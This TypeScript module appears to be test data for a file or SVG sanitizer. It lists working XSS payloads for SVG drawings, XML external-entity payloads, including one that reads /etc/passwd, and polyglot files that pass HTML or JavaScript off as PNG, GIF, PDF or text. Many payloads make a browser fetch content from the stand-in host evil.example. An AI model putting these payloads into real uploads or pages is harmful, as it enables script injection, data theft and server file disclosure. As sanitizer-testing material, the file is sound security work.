/** Files that a browser could run or that could make it fetch something: drawings, and files that claim another format. */

import { givenAttacks } from './attacks.ts'

const open = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="40"'
const run = 'try{xss()}catch{}try{parent.xss()}catch{}try{top.xss()}catch{}'

/** Contents of a drawing. */
const insides: readonly string[] = [
  `<script>${run}</script>`,
  `<script type="text/ecmascript"><![CDATA[${run}]]></script>`,
  '<script href="//evil.example/x.js"/>',
  '<script xlink:href="data:text/javascript,xss()"/>',
  '<g onload="xss()"/>',
  '<rect width="40" height="40" onclick="xss()" onmouseover="xss()"/>',
  '<a href="javascript:xss()"><text y="20">x</text></a>',
  '<a xlink:href="javascript:xss()"><rect width="40" height="40"/></a>',
  '<a><animate attributeName="href" values="javascript:xss()" begin="0s" fill="freeze"/><text y="20">x</text></a>',
  '<a><set attributeName="xlink:href" to="javascript:xss()"/><text y="20">x</text></a>',
  '<animate onbegin="xss()" attributeName="x" dur="1s"/>',
  '<set onend="xss()" attributeName="x" dur="1ms"/>',
  '<image href="//evil.example/x.png" width="40" height="40"/>',
  '<image xlink:href="http://evil.example/x.svg" width="40" height="40"/>',
  '<image href="x" onerror="xss()" width="40" height="40"/>',
  "<image href=\"data:image/svg+xml,&lt;svg xmlns='http://www.w3.org/2000/svg' onload='parent.xss()'/&gt;\"/>",
  '<use href="//evil.example/x.svg#a"/>',
  "<use href=\"data:image/svg+xml,&lt;svg id='a' xmlns='http://www.w3.org/2000/svg'&gt;&lt;script&gt;xss()&lt;/script&gt;&lt;/svg&gt;#a\"/>",
  '<filter id="f"><feImage href="//evil.example/x.png"/></filter><rect width="40" height="40" filter="url(#f)"/>',
  '<rect width="40" height="40" filter="url(//evil.example/f.svg#f)"/>',
  '<rect width="40" height="40" fill="url(//evil.example/g.svg#g)"/>',
  '<rect width="40" height="40" style="mask:url(//evil.example/m.svg#m);cursor:url(//evil.example/c.cur),auto"/>',
  '<style>@import "//evil.example/x.css";</style>',
  '<style>@font-face{font-family:x;src:url(//evil.example/x.woff)}text{font-family:x}</style><text y="20">x</text>',
  '<style>rect{fill:url(//evil.example/x.svg#a)}*{background:url(//evil.example/x.png)}</style><rect width="40" height="40"/>',
  '<foreignObject width="40" height="40"><body xmlns="http://www.w3.org/1999/xhtml" onload="xss()"><script>xss()</script></body></foreignObject>',
  '<foreignObject width="40" height="40"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:parent.xss()"/></foreignObject>',
  '<foreignObject width="40" height="40"><iframe xmlns="http://www.w3.org/1999/xhtml" src="//evil.example/"/></foreignObject>',
  '<foreignObject width="40" height="40"><img xmlns="http://www.w3.org/1999/xhtml" src="//evil.example/x.png"/></foreignObject>',
  '<foreignObject width="40" height="40"><form xmlns="http://www.w3.org/1999/xhtml" action="//evil.example/"><input type="submit"/></form></foreignObject>',
  '<foreignObject width="40" height="40"><meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=//evil.example/"/></foreignObject>',
  '<foreignObject width="40" height="40"><link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="//evil.example/x.css"/></foreignObject>',
  '<foreignObject width="40" height="40"><video xmlns="http://www.w3.org/1999/xhtml" src="//evil.example/x.webm" poster="//evil.example/x.png"/></foreignObject>',
  '<foreignObject width="40" height="40"><object xmlns="http://www.w3.org/1999/xhtml" data="//evil.example/x"/></foreignObject>',
  '<handler xmlns="http://www.w3.org/2001/xml-events" type="application/javascript">xss()</handler>',
  '<text y="20"><textPath href="//evil.example/p.svg#p">x</textPath></text>',
  '<html:script xmlns:html="http://www.w3.org/1999/xhtml">xss()</html:script>',
  '<link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="//evil.example/x.css"/>',
]

/** Complete documents. */
const documents: readonly string[] = [
  `${open} onload="${run}"/>`,
  `<?xml version="1.0"?><?xml-stylesheet type="text/css" href="//evil.example/x.css"?>${open}/>`,
  `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="//evil.example/x.xsl"?>${open}/>`,
  `<?xml version="1.0"?><!DOCTYPE svg SYSTEM "http://evil.example/x.dtd">${open}/>`,
  `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "http://evil.example/x">]>${open}><text y="20">&x;</text></svg>`,
  `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${open}><text y="20">&x;</text></svg>`,
  `<?xml version="1.0"?><!DOCTYPE svg [<!ATTLIST svg onload CDATA "xss()">]>${open}/>`,
  `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x "<script xmlns='http://www.w3.org/2000/svg'>xss()</script>">]>${open}>&x;</svg>`,
]

/** Drawings that attack whoever opens them; for a given list, each entry inside a drawing, unchanged and as XML. */
export const svgAttacks: readonly string[] = givenAttacks?.flatMap(drawingsOf) ?? [
  ...insides.map(inside => `${open}>${inside}</svg>`),
  ...documents,
]

function drawingsOf(attack: string): string[] {
  const foreign = `<foreignObject width="40" height="40"><body xmlns="http://www.w3.org/1999/xhtml">${attack}</body></foreignObject>`
  return [attack, `${open}>${attack}</svg>`, `${open}>${foreign}</svg>`]
}

/** HTML under names of other formats, and formats that can contain scripts. */
export const fileAttacks: readonly (readonly [extension: string, content: string])[] = [
  ...['png', 'jpg', 'gif', 'webp', 'txt', 'pdf', 'mp4', 'ogg', 'svg', 'stl', 'djvu', 'mid', 'tiff'].map(
    extension => [extension, `<!doctype html><html><script>${run}</script><img src="//evil.example/x.png">`] as const,
  ),
  ['gif', `GIF89a/*<svg onload=xss()>*/=0;${run}`],
  ['png', `\x89PNG\r\n\x1a\n<html><script>${run}</script>`],
  [
    'pdf',
    '%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj trailer<</Root 1 0 R>>',
  ],
  ['txt', `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>${run}</script></html>`],
  ['txt', '+ADw-script+AD4-xss()+ADw-/script+AD4-'],
  ['svg', `<html xmlns="http://www.w3.org/1999/xhtml"><head><script>${run}</script></head></html>`],
  ['svg', `\ufeff<svg xmlns="http://www.w3.org/2000/svg"><script>${run}</script></svg>`],
]
